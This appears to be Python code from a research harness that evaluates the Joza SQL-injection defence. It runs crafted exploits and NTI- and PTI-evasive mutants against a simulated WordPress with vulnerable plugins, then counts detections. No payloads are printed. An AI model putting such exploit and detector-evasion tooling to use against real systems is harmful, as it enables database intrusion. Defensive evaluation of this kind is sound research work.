    nti_mutant_works: bool   # the NTI-evasive mutant is still functional
    nti_mutated: bool        # NTI detected the NTI-evasive mutant
    taintless_adapted: bool  # Taintless produced a PTI-safe mutant
    pti_mutant_works: bool   # that mutant is still functional
    pti_mutated: bool        # PTI detected the Taintless mutant (False == evaded)
    joza: bool               # Joza detected original + every existing mutant


@dataclass
class CorpusEvaluation:
    """Aggregates for Tables II and IV."""

    reports: list[PluginReport]
    scenario_reports: list[ScenarioReport]

    # -- Table II -------------------------------------------------------

    @property
    def nti_baseline(self) -> tuple[int, int]:
        return sum(r.nti_original for r in self.reports), len(self.reports)

    @property
    def pti_baseline(self) -> tuple[int, int]:
        return sum(r.pti_original for r in self.reports), len(self.reports)

    # -- Section V-A evasion tallies -------------------------------------

    @property
    def nti_evasions(self) -> int:
        """Mutants that work and bypass NTI (plugins only)."""
        return sum(
            r.nti_mutant_works and not r.nti_mutated for r in self.reports
        )

    @property
    def taintless_successes(self) -> int:
        """Exploits Taintless adapted into working, PTI-safe mutants."""
        return sum(
            r.taintless_adapted and r.pti_mutant_works and not r.pti_mutated
            for r in self.reports
        )

    @property
    def joza_detections(self) -> tuple[int, int]:
        return sum(r.joza for r in self.reports), len(self.reports)


def _detected_during(engine: JozaEngine, action) -> bool:
    before = len(engine.attack_log)
    action()
    return len(engine.attack_log) > before


def evaluate_corpus(
    num_posts: int = 10,
    plugins: list[PluginDef] | None = None,
    include_scenarios: bool = True,
) -> CorpusEvaluation:
    """Run the full security evaluation over the plugin corpus."""
    # Imported here, not at module top: repro.attacks imports testbed types,
    # so a module-level import would be circular.
    from ..attacks.nti_evasion import mutate_exploit_for_nti
    from ..attacks.taintless import query_builder_for, taintless_mutate

    corpus = plugins if plugins is not None else ALL_PLUGINS
    app_plain = build_testbed(num_posts, corpus)
    app_nti = build_testbed(num_posts, corpus)
    app_pti = build_testbed(num_posts, corpus)
    app_joza = build_testbed(num_posts, corpus)
    eng_nti = JozaEngine.protect(app_nti, JozaConfig(enable_pti=False))
    eng_pti = JozaEngine.protect(app_pti, JozaConfig(enable_nti=False))
    eng_joza = JozaEngine.protect(app_joza)
    store = FragmentStore.from_sources(app_plain.all_sources())

    reports: list[PluginReport] = []
    for defn in corpus:
        exploit = craft_exploit(defn)
        original_works = run_exploit(app_plain, exploit).success
        nti_original = _detected_during(
            eng_nti, lambda: run_exploit(app_nti, exploit)
        )
        pti_original = _detected_during(
            eng_pti, lambda: run_exploit(app_pti, exploit)
        )
        joza_original = _detected_during(
            eng_joza, lambda: run_exploit(app_joza, exploit)
        )

        nti_mutant = mutate_exploit_for_nti(exploit)
        nti_mutant_works = run_exploit(app_plain, exploit, payloads=nti_mutant).success
        nti_mutated = _detected_during(
            eng_nti, lambda: run_exploit(app_nti, exploit, payloads=nti_mutant)
        )
        joza_nti_mutant = _detected_during(
            eng_joza, lambda: run_exploit(app_joza, exploit, payloads=nti_mutant)
        )

        builder = query_builder_for(app_plain, defn)
        taintless = [taintless_mutate(p, builder, store) for p in exploit.payloads]
        taintless_adapted = all(t.succeeded for t in taintless)
        pti_mutant_works = False
        pti_mutated = False
        joza_pti_mutant = True
        if taintless_adapted:
            pti_mutant = tuple(t.payload for t in taintless)
            pti_mutant_works = run_exploit(
                app_plain, exploit, payloads=pti_mutant
            ).success
            pti_mutated = _detected_during(
                eng_pti, lambda: run_exploit(app_pti, exploit, payloads=pti_mutant)
            )
            joza_pti_mutant = _detected_during(
                eng_joza, lambda: run_exploit(app_joza, exploit, payloads=pti_mutant)
            )
        reports.append(
            PluginReport(
                plugin=defn,
                original_works=original_works,
                nti_original=nti_original,
                pti_original=pti_original,
                nti_mutant_works=nti_mutant_works,
                nti_mutated=nti_mutated,
                taintless_adapted=taintless_adapted,
                pti_mutant_works=pti_mutant_works,
                pti_mutated=pti_mutated,
                joza=joza_original and joza_nti_mutant and joza_pti_mutant,
            )
        )
    scenario_reports = (
        [scenario.evaluate() for scenario in all_scenarios()]
        if include_scenarios
        else []
    )
    return CorpusEvaluation(reports=reports, scenario_reports=scenario_reports)


def evaluate_sqlgen_variants(
    count_per_plugin: int = 40,
    num_posts: int = 5,
    targets: tuple[str, ...] = SQLGEN_TARGETS,
) -> dict[str, tuple[int, int]]:
    """Detection of SQLMap-style variants (Table II, second row).

    Returns ``{"nti": (detected, total), "pti": (detected, total)}``.
    """
    from ..attacks.sqlgen import generate_variants

    results: dict[str, tuple[int, int]] = {}
    for technique, config in (
        ("nti", JozaConfig(enable_pti=False)),
        ("pti", JozaConfig(enable_nti=False)),
    ):
        app = build_testbed(num_posts)
        engine = JozaEngine.protect(app, config)
        detected = 0
        total = 0
        for name in targets:
            defn = plugin_by_name(name)
            exploit = craft_exploit(defn)
            for variant in generate_variants(defn, count_per_plugin):
                total += 1
                payloads = (variant,) * len(exploit.payloads)
                if _detected_during(
                    engine,
                    lambda: run_exploit(app, exploit, payloads=payloads),
                ):
                    detected += 1
        results[technique] = (detected, total)
    return results
