"""WP-SQLI-LAB equivalent: simulated WordPress, 50 vulnerable plugins,
working exploits, the three case-study applications, the benign crawler and
the security-evaluation harness (paper Section V)."""

from .crawler import CrawlReport, crawl_requests, full_crawl
from .evaluation import (
    CorpusEvaluation,
    PluginReport,
    SQLGEN_TARGETS,
    evaluate_corpus,
    evaluate_sqlgen_variants,
)
from .faults import (
    POISON_MARKER,
    ChaosPTIDaemon,
    FakeClock,
    FaultKind,
    FaultSchedule,
    FlakyDaemon,
)
from .exploits import (
    DOUBLE_BLIND_DELAY,
    Exploit,
    ExploitOutcome,
    all_exploits,
    benign_value,
    craft_exploit,
    make_request,
    run_exploit,
)
from .other_apps import (
    Scenario,
    ScenarioReport,
    all_scenarios,
    drupal_scenario,
    joomla_scenario,
    oscommerce_scenario,
)
from .plugin_defs import ALL_PLUGINS, AttackType, PluginDef, plugin_by_name
from .second_order import (
    MixedSourceAttack,
    SecondOrderAttack,
    install_extensions,
)
from .plugins import build_plugin, build_testbed, generate_php_source, install_plugin
from .wordpress import (
    ADMIN_PASSWORD_HASH,
    WORDPRESS_CORE_SOURCE,
    build_wordpress,
    seed_content,
)

__all__ = [
    "CrawlReport",
    "crawl_requests",
    "full_crawl",
    "CorpusEvaluation",
    "PluginReport",
    "SQLGEN_TARGETS",
    "evaluate_corpus",
    "evaluate_sqlgen_variants",
    "POISON_MARKER",
    "ChaosPTIDaemon",
    "FakeClock",
    "FaultKind",
    "FaultSchedule",
    "FlakyDaemon",
    "DOUBLE_BLIND_DELAY",
    "Exploit",
    "ExploitOutcome",
    "all_exploits",
    "benign_value",
    "craft_exploit",
    "make_request",
    "run_exploit",
    "Scenario",
    "ScenarioReport",
    "all_scenarios",
    "drupal_scenario",
    "joomla_scenario",
    "oscommerce_scenario",
    "ALL_PLUGINS",
    "AttackType",
    "PluginDef",
    "plugin_by_name",
    "MixedSourceAttack",
    "SecondOrderAttack",
    "install_extensions",
    "build_plugin",
    "build_testbed",
    "generate_php_source",
    "install_plugin",
    "ADMIN_PASSWORD_HASH",
    "WORDPRESS_CORE_SOURCE",
    "build_wordpress",
    "seed_content",
]
